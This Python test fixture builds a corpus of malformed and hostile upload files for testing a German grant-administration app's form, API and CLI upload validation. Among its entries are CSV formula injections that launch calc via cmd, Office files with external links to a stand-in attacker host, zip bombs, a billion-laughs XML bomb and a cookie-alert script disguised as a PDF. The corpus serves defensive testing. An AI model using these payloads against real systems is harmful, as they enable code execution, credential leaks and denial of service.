"""A corpus of bad files for every upload form, API upload and command-line import.

Every entry is built deterministically from code (nothing binary is committed): a name (the
name the file is uploaded under; its extension decides which entry points take it), a
builder (`kind -> bytes`, the kind being the table an entry point expects: "participants",
"indicators", "passon", or "document"), optionally the entry points it is meant for (by
default every entry point that accepts its extension), and `big` for the files generated at
test time into a temporary folder (zip bombs, a million empty lines, 10 000 columns, long
cells): the session fixture in conftest.py builds each of them once.

`where` is a text the German message must contain when the error has a place (a row or a
column); the file's name is always expected.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

# entry point -> (extensions it accepts, the kind of table it expects)
ENTRY_POINTS: dict[str, tuple[frozenset[str], str]] = {
    "monitoring_form": (frozenset({"csv", "xlsx", "txt"}), "participants"),
    "monitoring_api": (frozenset({"csv", "xlsx", "txt"}), "participants"),
    "monitoring_cli": (frozenset({"csv", "xlsx", "txt"}), "participants"),
    "indicators_form": (frozenset({"csv", "xlsx"}), "indicators"),
    "passon_form": (frozenset({"csv", "xlsx"}), "passon"),
    "agreement_sign_form": (frozenset({"pdf"}), "document"),
    "agreement_import_form": (frozenset({"txt", "pdf", "docx"}), "document"),
    "agreement_cli": (frozenset({"txt", "pdf", "docx"}), "document"),
    "funding_attachment_form": (frozenset({"pdf"}), "document"),
    "conference_document_form": (frozenset({"pdf", "pptx", "docx"}), "document"),
}
AGREEMENT_IMPORT = frozenset({"agreement_import_form", "agreement_cli"})

# a header and a good row per table kind: the hostile part goes into an otherwise good file
HEADERS = {
    "participants": ["teilnehmer_id", "eintritt", "geschlecht", "geburtsjahr", "rechtskreis",
                     "wohnort_ags"],
    "indicators": ["ags", "arbeitslose"],
    "passon": ["Datum", "Empfänger", "Zweck", "Betrag", "Belegnummer"],
    "document": ["Zielvereinbarung"],
}
GOOD = {
    "participants": ["A-1", "13.02.2025", "w", "2004", "SGB II", "06635"],
    "indicators": ["06635", "1234"],
    "passon": ["01.02.2025", "Bildungswerk", "Lehrgang", "300,00", "B-1"],
    "document": ["zwischen dem Land Hessen und dem Landkreis"],
}
# which cell of the good row takes a hostile text (a free-text cell of each kind)
TEXT_CELL = {"participants": 0, "indicators": None, "passon": 1, "document": 0}


@dataclass(frozen=True)
class Bad:
    name: str
    build: Callable[[str], bytes]
    targets: frozenset[str] | None = None
    big: bool = False
    where: str | None = None

    @property
    def ext(self) -> str:
        return self.name.rsplit(".", 1)[-1].lower()

    def entry_points(self) -> list[str]:
        found = [e for e, (exts, _) in ENTRY_POINTS.items() if self.ext in exts]
        return [e for e in found if self.targets is None or e in self.targets]


# --- builders -------------------------------------------------------------------------------

def _garbage(seed: int, size: int = 4096) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.getrandbits(8) for _ in range(size))


def _csv(kind: str, rows: list[list[str]], *, encoding: str = "utf-8",
         header: bool = True) -> bytes:
    lines = ([";".join(HEADERS[kind])] if header else []) + [";".join(r) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def _with_text(kind: str, text: str) -> list[str]:
    """The good row of `kind` with `text` in its free-text cell (indicators: as a value)."""
    row = list(GOOD[kind])
    row[TEXT_CELL[kind] if TEXT_CELL[kind] is not None else 1] = text
    return row


def _formula_csv(text: str) -> Callable[[str], bytes]:
    def build(kind: str) -> bytes:
        if kind == "indicators":  # the header names the indicator: a formula there
            return ("ags;" + text + "\r\n06635;12\r\n").encode()
        return _csv(kind, [_with_text(kind, text)])
    return build


def pdf(*, pages: int = 1, password: str | None = None, text: str | None = None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bytes(members: dict[str, bytes | str], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def docx(paragraphs: list[str]) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    for p in paragraphs:
        document.add_paragraph(p)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewrite(zipped: bytes, change: dict[str, Callable[[bytes], bytes] | bytes]) -> bytes:
    """The zip with members changed (a function of the old bytes) or added (bytes)."""
    members = {}
    with zipfile.ZipFile(io.BytesIO(zipped)) as z:
        for info in z.infolist():
            members[info.filename] = z.read(info)
    for name, how in change.items():
        members[name] = how(members[name]) if callable(how) else how
    return zip_bytes(members)


_EXTERNAL = (b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/'
             b'officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
             b"</Relationships>")


def _add_external(rels_member: str, rel_type: bytes, target: bytes):
    return {rels_member: lambda old: old.replace(b"</Relationships>",
                                                 _EXTERNAL % (rel_type, target))}


def docx_external() -> bytes:
    base = docx(["Zielvereinbarung"])
    return _rewrite(base, _add_external("word/_rels/document.xml.rels", b"attachedTemplate",
                                        b"\\\\angreifer.example\\share\\vorlage.dotm"))


def xlsx_external(kind: str) -> bytes:
    base = xlsx([HEADERS[_table(kind)], GOOD[_table(kind)]])
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>')
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"></Relationships>')
    rels = rels.replace(b"</Relationships>",
                        _EXTERNAL % (b"externalLinkPath", b"http://angreifer.example/x.xlsx"))
    return _rewrite(base, {"xl/externalLinks/externalLink1.xml": link,
                           "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def pptx_minimal(external: bool = False) -> bytes:
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"></Relationships>')
    if external:
        rels = rels.replace(b"</Relationships>",
                            _EXTERNAL % (b"oleObject", b"file://angreifer.example/a.exe"))
    return zip_bytes({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>",
                      "ppt/_rels/presentation.xml.rels": rels})


def _table(kind: str) -> str:
    return kind if kind in ("participants", "indicators", "passon") else "participants"


def zip_bomb(ext: str, unpacked: int) -> bytes:
    """A valid-looking Office container whose main part unpacks to `unpacked` bytes of
    blanks inside a well-formed XML element (compression ratio about 1000)."""
    part = {"xlsx": "xl/worksheets/sheet1.xml", "docx": "word/document.xml",
            "pptx": "ppt/presentation.xml"}[ext]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open(part, "w", force_zip64=True) as f:
            f.write(b'<?xml version="1.0"?><x>')
            block = b" " * (1 << 20)
            for _ in range(unpacked >> 20):
                f.write(block)
            f.write(b"</x>")
    return out.getvalue()


def many_members(ext: str, count: int = 5000) -> bytes:
    members: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>"}
    members.update({f"x/{i}.xml": b"<x/>" for i in range(count)})
    return zip_bytes(members, level=1)


def billion_laughs() -> bytes:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    return ('<?xml version="1.0"?><!DOCTYPE x [' + "".join(lol) + ']><x>&lol9;</x>').encode()


def xlsx_laughs(kind: str) -> bytes:
    return _rewrite(xlsx([HEADERS[_table(kind)], GOOD[_table(kind)]]),
                    {"xl/sharedStrings.xml": billion_laughs(),
                     "xl/worksheets/sheet1.xml": billion_laughs()})


def docx_laughs() -> bytes:
    return _rewrite(docx(["Zielvereinbarung"]), {"word/document.xml": billion_laughs()})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EVIL_HTML = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00"
       b"\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18"
       b"\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def _const(data: bytes) -> Callable[[str], bytes]:
    return lambda kind: data


def _lazy(make: Callable[[], bytes]) -> Callable[[str], bytes]:
    return lambda kind: make()


def ten_thousand_columns(kind: str) -> bytes:
    header = HEADERS[_table(kind)] + [f"spalte{i}" for i in range(10_000)]
    return (";".join(header) + "\r\n" + ";".join(GOOD[_table(kind)] + ["x"] * 10_000)
            + "\r\n").encode()


def ten_thousand_columns_xlsx(kind: str) -> bytes:
    table = _table(kind)
    return xlsx([HEADERS[table] + [f"spalte{i}" for i in range(10_000)],
                 GOOD[table] + ["x"] * 10_000])


def million_empty_lines(kind: str) -> bytes:
    table = _table(kind)
    return (";".join(HEADERS[table]) + "\r\n").encode() + b"\r\n" * 1_000_000


def long_cell(kind: str, length: int) -> bytes:
    if kind == "document":
        return ("Zielvereinbarung " + "x" * length).encode()
    return _csv(_table(kind), [_with_text(_table(kind), "x" * length)])


def long_cell_xlsx(kind: str) -> bytes:
    table = _table(kind)
    return xlsx([HEADERS[table], _with_text(table, "y" * 30_000)])


def long_header(kind: str) -> bytes:
    table = _table(kind)
    return (";".join(HEADERS[table] + ["k" * 5000]) + "\r\n"
            + ";".join(GOOD[table]) + "\r\n").encode()


def unclosed_quote(kind: str) -> bytes:
    table = _table(kind)
    return (";".join(HEADERS[table]) + '\r\n"' + "a;b\r\n" * 20_000).encode()


def nul_csv(kind: str) -> bytes:
    table = _table(kind)
    return _csv(table, [_with_text(table, "A\x00\x00B")])


def utf16(kind: str, bom: bool = True) -> bytes:
    table = _table(kind)
    text = _csv(table, [GOOD[table]]).decode()
    return text.encode("utf-16" if bom else "utf-16-le")


def latin1_bad(kind: str) -> bytes:
    """Windows-1252 with umlauts, and values that are wrong anyway (a file saved in the
    wrong encoding by hand)."""
    table = _table(kind)
    row = {"participants": ["Müller-Ä", "13.02.2025", "männlich?", "2004", "SGB II", "06635"],
           "indicators": ["06635", "zwölf"],
           "passon": ["01.02.2025", "Bäckerei", "Brötchen", "drei Euro", "B-1"]}[table]
    return _csv(table, [row], encoding="cp1252")


def xlsx_formula_text(kind: str) -> bytes:
    table = _table(kind)
    if table == "indicators":
        return xlsx([["ags", "=HYPERLINK(\"http://angreifer.example\",\"x\")"],
                     ["06635", 12]])
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING

    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS[table])
    sheet.append(GOOD[table])
    cell = sheet.cell(row=2, column=TEXT_CELL[table] + 1)
    cell.value = '=HYPERLINK("http://angreifer.example","klick")'
    cell.data_type = TYPE_STRING  # stored as text, as a hostile file would
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_no_sheet(kind: str) -> bytes:
    return zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})


def xlsx_broken_sheet(kind: str) -> bytes:
    table = _table(kind)
    return _rewrite(xlsx([HEADERS[table], GOOD[table]]),
                    {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"})


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


# --- the corpus -----------------------------------------------------------------------------

_ALL_EXT = ("csv", "xlsx", "txt", "pdf", "docx", "pptx")
_OFFICE = ("xlsx", "docx", "pptx")


def corpus() -> list[Bad]:
    bad: list[Bad] = []
    add = bad.append
    for i, ext in enumerate(_ALL_EXT):
        add(Bad(f"leer.{ext}", _const(b"")))
        add(Bad(f"zufall.{ext}", _const(_garbage(i))))
        add(Bad(f"nur-nullbytes.{ext}", _const(b"\x00" * 2048)))
    # renamed formats
    add(Bad("pdf-umbenannt.csv", _lazy(pdf)))
    add(Bad("pdf-umbenannt.xlsx", _lazy(pdf)))
    add(Bad("pdf-umbenannt.txt", _lazy(pdf)))
    add(Bad("pdf-umbenannt.docx", _lazy(pdf)))
    add(Bad("pdf-umbenannt.pptx", _lazy(pdf)))
    add(Bad("xlsx-umbenannt.pdf", lambda kind: xlsx([["a"]])))
    add(Bad("docx-umbenannt.pdf", _lazy(lambda: docx(["x"]))))
    add(Bad("docx-umbenannt.xlsx", _lazy(lambda: docx(["x"]))))
    add(Bad("docx-umbenannt.txt", _lazy(lambda: docx(["x"]))))
    add(Bad("xlsx-umbenannt.docx", lambda kind: xlsx([["a"]])))
    add(Bad("alt-xls.xlsx", _const(OLE + _garbage(10, 2000))))
    add(Bad("verschluesselt-ole.docx", _const(OLE + b"EncryptedPackage" + _garbage(11, 2000))))
    add(Bad("html.pdf", _const(EVIL_HTML)))
    add(Bad("bild-png.pdf", _const(PNG)))
    add(Bad("programm-exe.csv", _const(b"MZ\x90\x00" + _garbage(12, 3000))))
    add(Bad("zip-ohne-inhalt.docx", _const(zip_bytes({"liesmich.txt": "nichts"}))))
    add(Bad("zip-ohne-inhalt.pptx", _const(zip_bytes({"liesmich.txt": "nichts"}))))
    # PDF
    add(Bad("verschluesselt.pdf", _lazy(lambda: pdf(password="geheim"))))
    add(Bad("nur-bild.pdf", _lazy(pdf), targets=AGREEMENT_IMPORT))
    add(Bad("61-seiten.pdf", _lazy(lambda: pdf(pages=61)), targets=AGREEMENT_IMPORT))
    add(Bad("abgeschnitten.pdf", _lazy(lambda: truncated(pdf(pages=3)))))
    add(Bad("nur-kopf.pdf", _const(b"%PDF-1.7\n")))
    # Office containers: bombs, member counts, external references, entities, broken parts
    for ext in _OFFICE:
        add(Bad(f"zip-bombe.{ext}", lambda kind, e=ext: zip_bomb(e, 300 << 20), big=True))
        add(Bad(f"viele-teile.{ext}", lambda kind, e=ext: many_members(e), big=True))
        add(Bad(f"abgeschnitten.{ext}",
                lambda kind, e=ext: truncated({"xlsx": xlsx_external, "docx": lambda k:
                                               docx(["x" * 2000]), "pptx": lambda k:
                                               pptx_minimal()}[e](kind))))
    add(Bad("externe-verknuepfung.xlsx", xlsx_external))
    add(Bad("externe-vorlage.docx", _lazy(docx_external)))
    add(Bad("externes-objekt.pptx", _lazy(lambda: pptx_minimal(external=True))))
    add(Bad("entitaeten.xlsx", xlsx_laughs))
    add(Bad("entitaeten.docx", _lazy(docx_laughs)))
    add(Bad("ohne-tabellenblatt.xlsx", xlsx_no_sheet))
    add(Bad("kaputtes-blatt.xlsx", xlsx_broken_sheet))
    add(Bad("formel-als-text.xlsx", xlsx_formula_text, where="Zeile"))
    add(Bad("10000-spalten.xlsx", ten_thousand_columns_xlsx, big=True))
    add(Bad("lange-zelle.xlsx", long_cell_xlsx, big=True, where="Zeile 2"))
    # CSV
    add(Bad("utf16.csv", utf16))
    add(Bad("utf16-ohne-bom.csv", lambda kind: utf16(kind, bom=False)))
    add(Bad("windows-1252.csv", latin1_bad, where="Zeile 2"))
    add(Bad("nullbytes-in-zelle.csv", nul_csv, where="Zeile 2"))
    add(Bad("formel-gleich.csv", _formula_csv('=HYPERLINK("http://angreifer.example";"x")'),
            where="Zeile"))
    add(Bad("formel-plus.csv", _formula_csv("+1+cmd|' /C calc'!A0"), where="Zeile"))
    add(Bad("formel-minus.csv", _formula_csv("-2+3+cmd|' /C calc'!A0"), where="Zeile"))
    add(Bad("formel-at.csv", _formula_csv("@SUMME(1+1)*cmd|' /C calc'!A0"), where="Zeile"))
    add(Bad("10000-spalten.csv", ten_thousand_columns, big=True))
    add(Bad("million-leerzeilen.csv", million_empty_lines, big=True))
    add(Bad("lange-zelle.csv", lambda kind: long_cell(kind, 1_000_000), big=True,
            where="Zeile 2"))
    add(Bad("lange-zelle-5000.csv", lambda kind: long_cell(kind, 5000), where="Zeile 2"))
    add(Bad("lange-ueberschrift.csv", long_header, where="Zeile 1"))
    add(Bad("offenes-anfuehrungszeichen.csv", unclosed_quote))
    add(Bad("nur-kopfzeile.csv", lambda kind: _csv(_table(kind), [])))
    # TXT (agreement import)
    add(Bad("nullbytes-in-text.txt", lambda kind: b"Zielvereinbarung\x00" * 50))
    add(Bad("utf16.txt", lambda kind: "Zielvereinbarung zwischen".encode("utf-16")))
    add(Bad("zu-lang.txt", lambda kind: long_cell("document", 1_300_000), big=True))
    add(Bad("keine-zielvereinbarung.txt", _const(b"Einkaufsliste: Brot, Milch\n"),
            targets=AGREEMENT_IMPORT))
    names = [b.name for b in bad]
    assert len(names) == len(set(names)), "corpus names must be unique"
    return bad


CORPUS = corpus()
BY_NAME = {b.name: b for b in CORPUS}


def cases() -> list[tuple[str, str]]:
    """(entry point, file name) for every file and every entry point that takes it."""
    return [(entry, bad.name) for bad in CORPUS for entry in bad.entry_points()]
